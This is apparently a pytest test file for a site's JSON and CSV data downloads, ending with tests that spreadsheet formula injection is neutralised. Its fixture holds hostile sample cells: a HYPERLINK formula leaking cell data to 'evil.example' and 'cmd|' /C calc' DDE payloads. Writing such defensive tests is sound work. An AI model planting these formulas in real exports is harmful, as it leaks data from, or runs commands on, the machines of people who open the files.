"""Data downloads: statements.json, statements.csv, sections.csv and the published schema, read
back with the standard library and checked against the YAML files read independently of the code
under test; then, end to end, the downloads and feeds in a built site."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml
from support.archive import FIXTURE, REPO, read_statements
from support.html import Site

from scripts.index import Index, build_index
from scripts.pipeline import Archive, site_config
from scripts.render.exports import (
    FORMULA_STARTS,
    SECTION_COLUMNS,
    STATEMENT_COLUMNS,
    render_exports,
    sections_csv,
    spreadsheet_cell,
    statements_csv,
    statements_json,
)
from scripts.render.jobs import render_site
from scripts.text import fold, paragraphs

SITE_URL = "https://example.org/fictional/site/"
"""[tool.archive] site_url of the fixture archive."""
SCHEMA = REPO / "scripts" / "statement.schema.json"
RECORD_KEYS = [
    "id",
    "url",
    "file",
    "title",
    "date",
    "date_note",
    "kind",
    "parties",
    "issuing_forum",
    "place",
    "language",
    "signatories",
    "summary",
    "sources",
    "countries",
    "forums",
    "topics",
    "all_countries",
    "all_forums",
    "all_topics",
    "actors",
    "all_actors",
    "series",
    "round",
    "participants",
    "sections",
    "related",
]


@pytest.fixture(scope="module")
def files(archive: Archive) -> dict[str, str]:
    return render_exports(archive.index, archive.vocabularies, site_config(FIXTURE))


@pytest.fixture(scope="module")
def statements() -> list[dict[str, Any]]:
    return read_statements(FIXTURE)


@pytest.fixture(scope="module")
def document(files: dict[str, str]) -> dict[str, Any]:
    loaded: dict[str, Any] = json.loads(files["data/statements.json"])
    return loaded


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def union(*lists: list[str]) -> list[str]:
    return list(dict.fromkeys(item for items in lists for item in items))


def section_tags(section: dict[str, Any], field: str) -> list[str]:
    """A section's own tags, then its excerpts' (excerpt tags add to their section's)."""
    return union(section.get(field, []), *(e.get(field, []) for e in section.get("excerpts", [])))


def statement_tags(statement: dict[str, Any], field: str) -> list[str]:
    return union(statement.get(field, []), *(section_tags(s, field) for s in statement["sections"]))


def holds(exported: Any, written: Any, where: str = "") -> None:
    """Everything the YAML file says is in the export, at the same place, with the same value
    (the export may add keys: defaults, nulls, urls)."""
    if isinstance(written, dict):
        assert isinstance(exported, dict), where
        for key, value in written.items():
            assert key in exported, f"{where}.{key}"
            holds(exported[key], value, f"{where}.{key}")
    elif isinstance(written, list):
        assert isinstance(exported, list) and len(exported) == len(written), where
        for n, (a, b) in enumerate(zip(exported, written, strict=True)):
            holds(a, b, f"{where}[{n}]")
    elif isinstance(exported, bool):  # the JSON types what the file writes as text
        assert ("true" if exported else "false") == written, where
    elif isinstance(exported, int):
        assert str(exported) == written, where
    else:
        assert exported == written, where


# --- statements.json ------------------------------------------------------------------------------


def test_json_holds_every_field_of_every_statement(
    document: dict[str, Any], statements: list[dict[str, Any]]
) -> None:
    records = {r["id"]: r for r in document["statements"]}
    assert sorted(records) == sorted(s["id"] for s in statements)
    assert document["count"] == len(statements)
    for statement in statements:
        record = records[statement["id"]]
        holds(record, statement, statement["id"])
        assert list(record) == RECORD_KEYS
        assert record["url"] == f"{SITE_URL}statements/{statement['id']}/"
        assert record["file"].endswith(f"/{statement['id']}.yml")
        for field in ("countries", "forums", "topics"):
            assert record[f"all_{field}"] == statement_tags(statement, field)
        for section, exported in zip(statement["sections"], record["sections"], strict=True):
            assert exported["url"] == f"{record['url']}#{section['id']}"


def test_json_fills_what_the_file_leaves_out(document: dict[str, Any]) -> None:
    records = {r["id"]: r for r in document["statements"]}
    letter = records["fictional-undated-iran-letter"]
    assert letter["date"] is None and letter["place"] is None and letter["signatories"] == []
    assert letter["sections"][0]["excerpts"][0]["source"] == "letter"
    assert letter["language"] == "en"


def test_json_names_every_id_it_uses(document: dict[str, Any]) -> None:
    names = document["names"]
    assert names["countries"]["NO"] == "Norway"
    assert names["forums"]["sco"] == "Shanghai Cooperation Organisation"
    for record in document["statements"]:
        assert record["kind"] in names["kinds"]
        for code in [*record["parties"], *record["all_countries"]]:
            assert code in names["countries"]
        for forum in [*record["all_forums"], record["issuing_forum"] or "sco"]:
            assert forum in names["forums"]
        for topic in record["all_topics"]:
            assert topic in names["topics"]


def test_json_is_utf8_text_not_ascii_escapes(files: dict[str, str]) -> None:
    assert "گفت‌وگو" in files["data/statements.json"]
    assert "\\u" not in files["data/statements.json"]


# --- the CSV files --------------------------------------------------------------------------------


def test_statements_csv_has_a_row_per_statement(
    files: dict[str, str], statements: list[dict[str, Any]]
) -> None:
    table = rows(files["data/statements.csv"])
    assert list(table[0]) == [name for name, _ in STATEMENT_COLUMNS]
    by_id = {row["id"]: row for row in table}
    assert sorted(by_id) == sorted(s["id"] for s in statements)
    for s in statements:
        row = by_id[s["id"]]
        assert row["title"] == s["title"]
        assert row["date"] == s.get("date", "")
        assert row["kind"] == s["kind"]
        assert row["parties"].split(";") == s.get("parties", [""])
        assert row["issuing_forum"] == s.get("issuing_forum", "")
        for field in ("countries", "forums", "topics"):
            assert row[field] == ";".join(statement_tags(s, field)), field
        assert row["sections"] == str(len(s["sections"]))
        assert row["summary"] == s["summary"]
        assert row["source_urls"].split(" ") == [source["url"] for source in s["sources"]]
        assert row["url"] == f"{SITE_URL}statements/{s['id']}/"


def about(statement: dict[str, Any], section: dict[str, Any], field: str) -> list[str]:
    """What a section is about, read from the file: the statement's own tags (and its issuing
    forum), the section's, its excerpts'; each once, in that order."""
    forum = field == "forums" and "issuing_forum" in statement
    found = [statement["issuing_forum"]] if forum else []
    for part in (statement, section, *section.get("excerpts", [])):
        found += part.get(field, [])
    return list(dict.fromkeys(found))


def test_sections_csv_has_a_row_per_section(
    files: dict[str, str], statements: list[dict[str, Any]]
) -> None:
    table = rows(files["data/sections.csv"])
    assert list(table[0]) == [name for name, _ in SECTION_COLUMNS]
    by_key = {(row["statement_id"], row["section_id"]): row for row in table}
    expected = [(s["id"], section["id"]) for s in statements for section in s["sections"]]
    assert sorted(by_key) == sorted(expected)
    assert len(table) == len(expected)
    for s in statements:
        for position, section in enumerate(s["sections"], 1):
            row = by_key[s["id"], section["id"]]
            assert row["heading"] == section["heading"]
            assert row["position"] == str(position)
            assert row["date"] == s.get("date", "")
            for field in ("countries", "forums", "topics", "actors"):
                assert row[field] == ";".join(about(s, section, field)), field
            texts = [p for e in section.get("excerpts", []) for p in paragraphs(e["text"])]
            assert row["excerpts"].split("\n\n") == (texts or [""])
            assert row["summary"] == section.get("summary", "")
            assert row["url"] == f"{SITE_URL}statements/{s['id']}/#{section['id']}"


def test_csv_quotes_what_needs_quoting(archive: Archive) -> None:
    title = 'A "quoted", comma\nand a line break; and a semicolon'
    statement = dataclasses.replace(archive.statements[0], title=title)
    index = build_index([statement], archive.vocabularies)
    text = statements_csv(index, archive.vocabularies, site_config(FIXTURE))
    (row,) = rows(text)
    assert row["title"] == title
    assert "\r" not in text


def test_every_line_ends_with_a_newline(files: dict[str, str]) -> None:
    for path, text in files.items():
        assert text.endswith("\n") and "\r\n" not in text, path


# --- the schema -----------------------------------------------------------------------------------


def test_published_schema_is_the_validators_own(files: dict[str, str]) -> None:
    assert files["data/statement.schema.json"] == SCHEMA.read_text(encoding="utf-8")


@pytest.mark.parametrize("root", [REPO, FIXTURE], ids=["data", "fixture"])
def test_published_schema_accepts_every_statement_file(files: dict[str, str], root: Path) -> None:
    schema = json.loads(files["data/statement.schema.json"])
    validator = jsonschema.Draft202012Validator(schema)
    paths = sorted((root / "data" / "statements").rglob("*.yml"))
    assert paths
    for path in paths:
        # BaseLoader builds only str, list and dict: no implicit typing, as the loader reads it
        data = yaml.load(path.read_text(encoding="utf-8"), Loader=yaml.BaseLoader)
        errors = [e.message for e in validator.iter_errors(data)]
        assert not errors, (path, errors)


# --- determinism and wiring -----------------------------------------------------------------------


def test_two_renders_are_byte_identical(archive: Archive, files: dict[str, str]) -> None:
    again = render_exports(
        build_index(list(reversed(archive.statements)), archive.vocabularies),
        archive.vocabularies,
        site_config(FIXTURE),
    )
    assert again == files


def test_render_site_includes_the_downloads(archive: Archive, files: dict[str, str]) -> None:
    pages = render_site(archive.index, archive.vocabularies, site_config(FIXTURE))
    assert {path: pages[path] for path in files} == files
    assert set(files) == {
        "data/index.md",
        "data/statements.json",
        "data/statements.csv",
        "data/sections.csv",
        "data/statement.schema.json",
    }


def test_data_page_explains_every_column_and_lists_every_feed(
    archive: Archive, files: dict[str, str]
) -> None:
    page = files["data/index.md"]
    for name, _ in [*STATEMENT_COLUMNS, *SECTION_COLUMNS]:
        assert f"<code>{name}</code>" in page, name
    for hub in archive.index.hubs.values():
        assert f'href="../{hub.url}feed.xml"' in page, hub.url
    assert 'href="../feed.xml"' in page
    assert "same terms as" in page


# --- end to end: the built site -------------------------------------------------------------------


@pytest.fixture(scope="module")
def built(built_root: Path) -> Path:
    return built_root


def test_built_site_serves_the_downloads_and_feeds(built: Path, archive: Archive) -> None:
    pages = render_site(archive.index, archive.vocabularies, site_config(FIXTURE))
    served = [p for p in pages if not p.endswith(".md")]
    assert {"feed.xml", "countries/af/feed.xml", "data/statements.json"} <= set(served)
    for path in served:
        assert (built / "site" / path).read_text(encoding="utf-8") == pages[path], path
    assert (built / "site" / "data" / "index.html").is_file()


def test_built_site_links_the_feeds_and_the_data_page(built: Path) -> None:
    site = Site(built / "site")

    def feed_links(url: str) -> set[str]:
        page = site.page(url)
        return {target for a, target in page.links() if a.text() == "Feed"}

    assert feed_links("") == {"feed.xml"}
    for hub in ("countries/af/", "forums/sco/", "topics/counter-terrorism/"):
        assert feed_links(hub) == {f"{hub}feed.xml"}, hub
    data = site.page("data/")
    assert {
        "data/statements.json",
        "data/statements.csv",
        "data/sections.csv",
        "data/statement.schema.json",
        "feed.xml",
        "countries/af/feed.xml",
    } <= data.link_targets()
    assert "data/" in site.page("").link_targets()


def test_excerpts_are_folded_text(files: dict[str, str]) -> None:
    for row in rows(files["data/sections.csv"]):
        for paragraph in row["excerpts"].split("\n\n"):
            assert paragraph == fold(paragraph)


# --- spreadsheets run no formula ------------------------------------------------------------------

FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the full text")',
    "date_note": "-2+3 days after the summit",
    "place": "+cmd|' /C calc'!A0",
    "summary": "@SUM(1+1)*cmd|' /C calc'!A0",
    "heading": "\t=1+1 behind a tab",
    "section_summary": "\r=1+1 behind a carriage return",
    "excerpt": "- the first point; - the second",
}
"""Text a contributor could write (validation lets most of it through): each begins with one of
the characters that make a spreadsheet run a cell."""


@pytest.fixture(scope="module")
def hostile(archive: Archive) -> Index:
    base = next(s for s in archive.statements if s.sections and s.sections[0].excerpts)
    first = base.sections[0]
    excerpt = dataclasses.replace(first.excerpts[0], text=FORMULAS["excerpt"])
    section = dataclasses.replace(
        first,
        heading=FORMULAS["heading"],
        summary=FORMULAS["section_summary"],
        excerpts=(excerpt,),
    )
    statement = dataclasses.replace(
        base,
        title=FORMULAS["title"],
        date_note=FORMULAS["date_note"],
        place=FORMULAS["place"],
        summary=FORMULAS["summary"],
        sections=(section, *base.sections[1:]),
    )
    return build_index([statement], archive.vocabularies)


def test_spreadsheet_cell() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_cell(f"{start}1+1") == f"'{start}1+1".replace("\r", "\n")
    for harmless in (
        "",
        "1+1",
        "a=1",
        " =1",
        "'=1",
        "2026-05",
        "https://example.org/?a=-1",
        "\n=1",
    ):
        assert spreadsheet_cell(harmless) == harmless
    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")  # OWASP's list
    # A carriage return inside a cell would end the row for a reader (the csv module does not
    # quote it): the rest would be a row of its own, beginning with a formula.
    assert spreadsheet_cell("ok\r=HYPERLINK(1)\r\nend") == "ok\n=HYPERLINK(1)\nend"


def test_a_carriage_return_cannot_start_a_row_of_its_own(archive: Archive) -> None:
    title = 'Harmless\r=HYPERLINK("https://evil.example/")'
    statement = dataclasses.replace(archive.statements[0], title=title)
    text = statements_csv(
        build_index([statement], archive.vocabularies), archive.vocabularies, site_config(FIXTURE)
    )
    (row,) = rows(text)
    assert row["title"] == title.replace("\r", "\n")


def test_csv_cells_that_a_spreadsheet_would_run_are_text(archive: Archive, hostile: Index) -> None:
    config = site_config(FIXTURE)
    (row,) = rows(statements_csv(hostile, archive.vocabularies, config))
    for column in ("title", "date_note", "place", "summary"):
        assert row[column] == "'" + FORMULAS[column], column
    section = rows(sections_csv(hostile, config))[0]
    assert section["heading"] == "'" + FORMULAS["heading"]
    assert section["summary"] == "'" + FORMULAS["section_summary"].replace("\r", "\n")
    assert section["statement_title"] == "'" + FORMULAS["title"]
    assert section["excerpts"].startswith("'" + FORMULAS["excerpt"])
    (statement,) = hostile.statements
    assert row["id"] == statement.id and row["url"].startswith("https://")  # the rest as it was
    assert row["date"] == (statement.date.iso if statement.date else "")


def test_json_keeps_the_text_as_written(archive: Archive, hostile: Index) -> None:
    document = json.loads(statements_json(hostile, archive.vocabularies, site_config(FIXTURE)))
    (record,) = document["statements"]
    for column in ("title", "date_note", "place", "summary"):
        assert record[column] == FORMULAS[column], column
    assert record["sections"][0]["heading"] == FORMULAS["heading"]
    assert record["sections"][0]["summary"] == FORMULAS["section_summary"]
    assert record["sections"][0]["excerpts"][0]["text"] == FORMULAS["excerpt"]


def test_no_cell_of_the_downloads_begins_as_a_formula(files: dict[str, str]) -> None:
    for path in ("data/statements.csv", "data/sections.csv"):
        for row in csv.reader(io.StringIO(files[path], newline="")):
            assert not [cell for cell in row if cell.startswith(FORMULA_STARTS)], path


def test_data_page_says_the_csv_cells_are_made_safe(files: dict[str, str]) -> None:
    page = files["data/index.md"]
    assert "begins with a single quote <code>'</code> instead" in page
    assert "<code>statements.json</code> has every text exactly as written" in page
